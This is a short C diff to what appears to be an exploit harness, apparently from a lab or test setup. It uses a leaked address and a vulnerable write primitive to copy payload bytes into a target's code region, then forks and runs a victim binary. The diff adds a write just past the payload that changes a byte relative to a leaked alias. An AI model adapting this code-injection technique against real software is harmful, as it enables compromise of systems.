@@ -36,7 +36,7 @@ static uint64_t entry_offset(uint64_t file)
 int main(void)
 {
 	struct bw_leak leak;
-	uint64_t file, code;
+	uint64_t file, code, behind;
 	int status = 0;
 
 	attack_leak(&leak);
@@ -52,6 +52,12 @@ int main(void)
 		memcpy(&word, payload + at, sizeof(word));
 		attack_check("vuln_write", bw_vuln_write(code + at, word));
 	}
+	/* the code stays: with this it is other bytes than what an earlier run left there */
+	behind = code + (size_t)(payload_end - payload);
+	attack_check("vuln_write",
+		     bw_vuln_write(behind, (uint64_t)bw_vuln_read(behind - leak.archive_alias +
+								  leak.archive) +
+						   1));
 	if (fork() == 0) {
 		execl("/" VICTIM, VICTIM, (char *)NULL);
 		_exit(1);
